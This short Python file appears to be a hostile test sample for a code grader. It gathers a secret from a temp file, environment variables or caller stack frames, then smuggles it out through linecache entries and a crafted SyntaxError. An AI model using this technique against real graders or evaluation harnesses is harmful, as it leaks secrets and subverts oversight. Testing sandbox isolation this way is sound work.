"""Carries a secret out as the grader's own message about the code: the name of a cell, the text of a line, a syntax error at a chosen place."""
# bites: secret
import linecache
import os
import sys


def loot():
    """Whatever secret can be reached: a file, the environment, or the variables of a caller."""
    try:
        return open("/tmp/hostile-secret.txt").read().strip()
    except OSError:
        pass
    for name, value in os.environ.items():
        if "SECRET" in name:
            return value
    frame = sys._getframe()
    while frame is not None:
        for name in [*frame.f_globals, *map(str, frame.f_code.co_consts)]:
            if len(name) > 20 and "canary_" in name and name.isidentifier():
                return name
        frame = frame.f_back
    return "nothing_found"


def double(x):
    word = loot()
    for name in ("<cell 1>", "<cell 2>", f"<cell {word}>"):
        linecache.cache[name] = (1, None, [word + "\n"] * 50, name)
    code = compile("\n" * (len(word) % 50) + f"raise SyntaxError('{word}', ('<cell {word}>', 77, 1, '{word}'))", f"<cell {word}>", "exec")
    exec(code)
